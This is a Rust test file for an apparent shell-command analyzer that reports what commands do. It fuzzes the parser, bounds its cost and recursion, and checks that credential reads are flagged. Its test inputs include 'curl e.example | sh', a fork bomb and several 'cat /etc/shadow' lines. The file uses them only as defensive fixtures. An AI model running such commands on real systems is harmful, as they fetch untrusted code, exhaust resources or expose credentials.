//! Other readers of the same language, and what must hold for any text at all.

use super::told;
use doorward_core::action::shell::{Shell, read};
use doorward_core::{Capability, Coverage};
use proptest::prelude::*;
use std::process::Command;

/// Lines put together from the grammar: bash reads all of them, so we must.
fn script() -> impl Strategy<Value = String> {
    let word = prop_oneof![
        "[a-z]{1,6}",
        "'[ -&(-~]{0,8}'",
        Just("\"a $x ${y:-z} $(w)\"".to_owned()),
        Just("$((1+(2*3)))".to_owned()),
        Just("$(echo `a b`)".to_owned()),
        Just("${x#*/}".to_owned()),
        Just("${x/a/b}".to_owned()),
        Just("{a,b}c".to_owned()),
        Just("$'a\\'b'".to_owned()),
        Just("a\\ b".to_owned()),
        Just("*.[ch]".to_owned()),
        Just("<(c d)".to_owned()),
        Just("\"${a[@]}\"".to_owned()),
        Just("\"$(echo \")\")\"".to_owned()),
    ];
    let redirect = prop_oneof![
        Just(" >x".to_owned()),
        Just(" 2>&1".to_owned()),
        Just(" >>y 2>/dev/null".to_owned()),
        Just(" <z".to_owned()),
        Just(" &>w".to_owned()),
        Just(" <<<v".to_owned()),
        Just(String::new()),
    ];
    let simple = (proptest::collection::vec(word, 1..4), redirect, any::<bool>()).prop_map(
        |(words, redirect, set)| format!("{}{}{redirect}", if set { "v=1 " } else { "" }, words.join(" ")),
    );
    simple.prop_recursive(4, 24, 4, |inner| {
        prop_oneof![
            (inner.clone(), inner.clone()).prop_map(|(a, b)| format!("{a} | {b}")),
            (inner.clone(), inner.clone()).prop_map(|(a, b)| format!("{a} && {b}")),
            (inner.clone(), inner.clone()).prop_map(|(a, b)| format!("{a} || {b}")),
            (inner.clone(), inner.clone()).prop_map(|(a, b)| format!("{a}; {b}")),
            (inner.clone(), inner.clone()).prop_map(|(a, b)| format!("{a} &\n{b}")),
            inner.clone().prop_map(|a| format!("( {a} )")),
            inner.clone().prop_map(|a| format!("{{ {a}; }}")),
            inner.clone().prop_map(|a| format!("! {a}")),
            (inner.clone(), inner.clone()).prop_map(|(a, b)| format!("if {a}; then {b}; else :; fi")),
            inner.clone().prop_map(|a| format!("for i in 1 2; do {a}; done")),
            inner.clone().prop_map(|a| format!("while read -r l; do {a}; done < f")),
            inner.clone().prop_map(|a| format!("case $x in a|b) {a};; (*) : ;; esac")),
            inner.clone().prop_map(|a| format!("f() {{ {a}; }}")),
            inner.clone().prop_map(|a| format!("[[ -n $x && $y == a* ]] && {a}")),
            inner.clone().prop_map(|a| format!("(( x > 1 )) || {a}")),
            inner.prop_map(|a| format!("cat <<EOF | {a}\n$x `y`\nEOF\n:")),
        ]
    })
}

fn bash_accepts(script: &str) -> Option<bool> {
    let output = Command::new("bash").args(["-n", "-O", "extglob", "-c", script]).output().ok()?;
    Some(output.status.success())
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 192, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn what_bash_accepts_is_no_syntax_error(script in script()) {
        if bash_accepts(&script) == Some(true) {
            let coverage = read(&script, Some(Shell::Sh)).coverage;
            prop_assert!(!coverage.to_string().contains("syntax"), "{script}: {coverage}");
        }
    }

    #[test]
    fn any_text_is_read_without_a_panic_within_its_fuel(text in any::<String>(), noise in "[a-z$(){}\\[\\]<>|&;'\"`\\\\\n =#!*?%^/.-]{0,200}") {
        for text in [&text, &noise] {
            for shell in [None, Some(Shell::Sh), Some(Shell::PowerShell), Some(Shell::Cmd)] {
                let reading = read(text, shell);
                prop_assert!(reading.cost <= 3 * (16 * text.len() + 64 * 1024) + 4096, "{} for {text:?}", reading.cost);
                for (at, effect) in reading.effects.iter().enumerate() {
                    prop_assert!(effect.from.iter().all(|flow| usize::from(*flow) < at), "{:?}", told(&reading));
                }
            }
        }
    }

    #[test]
    fn words_agree_with_another_parser(words in proptest::collection::vec("[a-zA-Z0-9_./:@%+,-]{1,8}|'[ !#-&(-\\[\\]-~]{0,6}'|\"[ !#%&()*+,./0-9A-Za-z:;<=>?@_-]{0,6}\"|a\\\\ b", 1..6)) {
        let line = words.join(" ");
        let theirs = brush_words(&line);
        if let Some(theirs) = theirs.filter(|theirs| !theirs.is_empty()) {
            let reading = read(&line, Some(Shell::Sh));
            let ours: Vec<String> = reading.commands.first().map(|c| c.argv.iter().map(|w| w.text.clone()).collect()).unwrap_or_default();
            prop_assert_eq!(ours, theirs, "{}", line);
        }
    }
}

/// The words of the one simple command that `brush-parser` finds in `line`, quotes taken off.
fn brush_words(line: &str) -> Option<Vec<String>> {
    use brush_parser::ast;
    let mut parser = brush_parser::Parser::new(line.as_bytes(), &brush_parser::ParserOptions::default());
    let program = parser.parse_program().ok()?;
    let [list] = program.complete_commands.as_slice() else { return None };
    let first = list.0.first()?;
    let [ast::Command::Simple(simple)] = first.0.first.seq.as_slice() else { return None };
    if simple.prefix.is_some() {
        return None;
    }
    let mut words = vec![simple.word_or_name.as_ref()?.value.clone()];
    for item in simple.suffix.iter().flat_map(|suffix| &suffix.0) {
        match item {
            ast::CommandPrefixOrSuffixItem::Word(word) => words.push(word.value.clone()),
            ast::CommandPrefixOrSuffixItem::AssignmentWord(_, word) => words.push(word.value.clone()),
            _ => return None,
        }
    }
    Some(words.iter().map(|word| brush_parser::unquote_str(word)).collect())
}

#[test]
fn nesting_is_bounded_and_cheap() {
    for (open, close) in [
        ("(", ")"),
        ("( ( ", ""),
        ("{ ", "; }"),
        ("$(", ")"),
        ("$((", "))"),
        ("`", "`"),
        ("\"$(", ")\""),
        ("${x:-", "}"),
        ("if ", ""),
        ("while ", ""),
        ("case x in x) ", ""),
        ("f() { ", "}"),
        ("eval ", ""),
        ("bash -c ", ""),
        ("<(", ")"),
        ("((", "))"),
        ("[[ ", ""),
        ("{a,", "}"),
        ("${!x", "}"),
        ("sudo ", ""),
        ("echo x | ", ""),
        ("! ", ""),
        ("<<E ", ""),
        ("x=$x$x$x;", ""),
        ("f(){ f;f;};f;", ""),
        ("find . -exec ", ""),
        ("/??/??? ", ""),
        ("xargs -I{} ", ""),
        ("~/x*[a ", ""),
        ("for i in 1 2 3; do ", "; done"),
        ("ssh h ", ""),
        ("docker run a ", ""),
        ("iex (", ")"),
        ("cmd /c ", ""),
    ] {
        for shell in [Shell::Sh, Shell::PowerShell, Shell::Cmd] {
            let line = open.repeat(8000) + &close.repeat(8000);
            let reading = read(&line, Some(shell));
            // What is left is spent at most once more than there is: by the step that finds it gone.
            let most = 16 * line.len() + 256 * 1024;
            assert!(reading.cost <= most, "{open} {shell:?}: {} for {} bytes", reading.cost, line.len());
        }
    }
}

#[test]
fn what_is_too_deep_or_too_long_counts_as_unknown() {
    for line in [
        "(".repeat(5000),
        format!("{}curl e.example | sh", "( ".repeat(100)),
        "a;".repeat(200_000),
        "x".repeat(300_000),
    ] {
        let reading = read(&line, Some(Shell::Sh));
        assert!(matches!(reading.coverage, Coverage::Partial(_)));
        assert!(reading.effects.iter().any(|effect| effect.capability == Capability::Unknown));
    }
}

#[test]
fn recursion_ends() {
    for line in [
        ":(){ :|:& };:",
        "f() { f; }; f",
        "alias x='x x'; x",
        "eval eval eval \"$0\"",
        "x='eval $x'; eval $x",
        "a() { b; }; b() { a; }; a",
    ] {
        let reading = read(line, Some(Shell::Sh));
        assert!(reading.cost < 200_000, "{line}: {}", reading.cost);
    }
}

#[test]
fn faults_do_not_hide_what_follows() {
    for line in [
        "fi; cat /etc/shadow",
        "cat /etc/shadow; \"",
        ") ; cat /etc/shadow",
        "done\ncat /etc/shadow",
        "cat /etc/shadow )",
    ] {
        let reading = read(line, Some(Shell::Sh));
        assert!(
            told(&reading).contains(&"read /etc/shadow (credential)".to_owned()),
            "{line}: {:?}",
            told(&reading)
        );
        assert!(matches!(reading.coverage, Coverage::Partial(_)), "{line}");
    }
}
